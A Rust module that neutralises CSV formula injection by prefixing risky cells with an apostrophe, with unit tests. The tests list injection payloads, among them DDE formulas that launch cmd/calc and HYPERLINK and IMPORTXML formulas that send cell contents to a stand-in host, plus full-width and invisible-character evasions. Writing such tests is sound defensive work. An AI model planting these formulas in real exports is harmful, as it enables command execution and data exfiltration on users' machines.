//! Cells that are safe to open.

use std::borrow::Cow;

/// A cell that no spreadsheet takes for a formula, and that intake reads back as it was.
///
/// Spreadsheets evaluate a cell of a CSV that begins with `=`, `+`, `-` or `@`, some also after
/// blanks or in full width; what begins with a tab or a line break is cut there by others. Such a
/// cell gets the apostrophe by which spreadsheets mark a text, and so does one that begins with an
/// apostrophe itself: intake takes away exactly one.
#[must_use]
pub fn safe(cell: &str) -> Cow<'_, str> {
    let opens = cell.trim_start_matches(is_passed_over).chars().next().is_some_and(opens_formula);
    let first = cell.chars().next();
    if opens || first.is_some_and(|first| first == '\'' || first.is_control()) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

fn opens_formula(character: char) -> bool {
    matches!(
        character,
        '=' | '+'
            | '-'
            | '@'
            | '＝'
            | '＋'
            | '－'
            | '＠'
            | '﹦'
            | '﹢'
            | '﹣'
            | '﹫'
            | '−'
            | '|'
            | '%'
    )
}

/// What a reader may drop before it looks at the first character.
fn is_passed_over(character: char) -> bool {
    character.is_whitespace()
        || character.is_control()
        || matches!(
            character,
            '\u{ad}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
                | '\u{2060}'..='\u{2069}' | '\u{feff}' | '"' | '\''
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_formula_becomes_a_text() {
        let payloads = [
            "=1+1",
            "+1",
            "-1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=cmd|' /C calc'!A0",
            "=DDE(\"cmd\",\"/C calc\",\"__DdeLink_60_870516294\")",
            "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"see\")",
            "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
            "﹦1",
            "−1",
            " =1+1",
            "\u{3000}=1+1",
            "\u{a0}＝1",
            "\u{feff}=1",
            "\u{200b}@x",
            "\t=1",
            "\r=1",
            "\n=1",
            "\tplain",
            "\rplain",
            "\u{0}=1",
            "\"=1\"",
            "'=1",
            "'plain",
            "%0A=1",
            "|calc",
        ];
        for payload in payloads {
            assert_eq!(safe(payload), format!("'{payload}"), "{payload:?}");
        }
    }

    #[test]
    fn everything_else_stays() {
        let texts = [
            "",
            "北方牧业有限公司",
            "91150000720180740Y",
            "1.50",
            "内环罚〔2026〕1号",
            "a=b",
            "1-2",
            "（一）=",
        ];
        for text in texts {
            assert_eq!(safe(text), text);
        }
    }
}
